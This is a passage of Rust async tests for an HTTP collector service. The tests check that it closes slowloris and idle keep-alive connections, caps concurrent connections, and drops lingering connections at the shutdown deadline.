    let closed = tokio::time::timeout(Duration::from_secs(10), async {
        let mut buf = [0u8; 1024];
        loop {
            if conn.write_all(b"X").await.is_err() {
                return;
            }
            if let Ok(Ok(0) | Err(_)) =
                tokio::time::timeout(Duration::from_millis(200), conn.read(&mut buf)).await
            {
                return;
            }
        }
    })
    .await;
    assert!(
        closed.is_ok(),
        "the slowloris connection is still open after 10 s"
    );
    // Others are served as before.
    assert_eq!(c.get("/healthz").await.0, 200);
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_keep_alive_connection_is_closed_after_idle_timeout() {
    // Regression: a kept-alive connection that went quiet stayed open for
    // ever, holding a file descriptor.
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| {
        cfg.idle_timeout = Duration::from_secs(1);
        cfg.header_timeout = Duration::from_secs(60);
    })
    .await;
    let mut conn = TcpStream::connect(addr(&c)).await.unwrap();
    conn.write_all(HEALTHZ).await.unwrap();
    let answer = read_healthz(&mut conn).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    // Now quiet: closed by the collector well within 10 s.
    let rest = read_until_closed(&mut conn, Duration::from_secs(10)).await;
    assert_eq!(
        rest.as_deref(),
        Some(&[][..]),
        "the idle connection is still open after 10 s"
    );
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_beyond_the_cap_wait_for_a_free_slot() {
    // Regression: connections were not capped; under `ulimit -n 1024`, 1,100
    // of them made /healthz fail for 40 s. Past max_connections the collector
    // stops accepting: a new client waits in the listen queue, and is served
    // as soon as a connection closes.
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| {
        cfg.max_connections = 2;
        cfg.header_timeout = Duration::from_secs(60);
        cfg.idle_timeout = Duration::from_secs(60);
    })
    .await;
    let first = TcpStream::connect(addr(&c)).await.unwrap();
    let _second = TcpStream::connect(addr(&c)).await.unwrap();
    let mut third = TcpStream::connect(addr(&c)).await.unwrap();
    third.write_all(HEALTHZ).await.unwrap();
    let mut buf = [0u8; 256];
    assert!(
        tokio::time::timeout(Duration::from_secs(1), third.read(&mut buf))
            .await
            .is_err(),
        "a third connection was served while two were open"
    );
    drop(first);
    let answer = tokio::time::timeout(Duration::from_secs(10), read_healthz(&mut third))
        .await
        .expect("the third connection was not served within 10 s of a slot freeing");
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shutdown_drops_connections_still_open_after_the_deadline() {
    // Regression: with 5 connections open, SIGTERM had not stopped the
    // collector after 30 s: graceful shutdown waited for them for ever.
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| {
        cfg.shutdown_timeout = Duration::from_secs(1);
        cfg.header_timeout = Duration::from_secs(60);
        cfg.idle_timeout = Duration::from_secs(60);
    })
    .await;
    let token = c.token("hanoi-1").await;
    let mut open = Vec::new();
    // Four in the middle of a request's head…
    for _ in 0..4 {
        let mut conn = TcpStream::connect(addr(&c)).await.unwrap();
        conn.write_all(b"GET /healthz HTTP/1.1\r\nHost: collector\r\n")
            .await
            .unwrap();
        open.push(conn);
    }
    // …and one request in flight, whose body stops halfway.
    let mut conn = TcpStream::connect(addr(&c)).await.unwrap();
    let head = format!(
        "POST /api/v1/reports HTTP/1.1\r\nHost: collector\r\nAuthorization: Bearer {token}\r\n\
         Content-Length: 1000\r\n\r\n{}",
        " ".repeat(500)
    );
    conn.write_all(head.as_bytes()).await.unwrap();
    open.push(conn);
    let full = c.state.config.body_budget;
    eventually("the request in flight is being read", || {
        c.state.bodies.available() < full
    })
    .await;
    let started = Instant::now();
    tokio::time::timeout(Duration::from_secs(15), c.stop())
        .await
        .expect("the collector did not stop within 15 s");
    let took = started.elapsed();
    for conn in &mut open {
        assert!(
            read_until_closed(conn, Duration::from_secs(5))
                .await
                .is_some(),
            "a connection is still open after the collector stopped"
        );
    }
    assert!(
        took >= Duration::from_millis(900),
        "stopped before the deadline: {took:?}"
    );
}
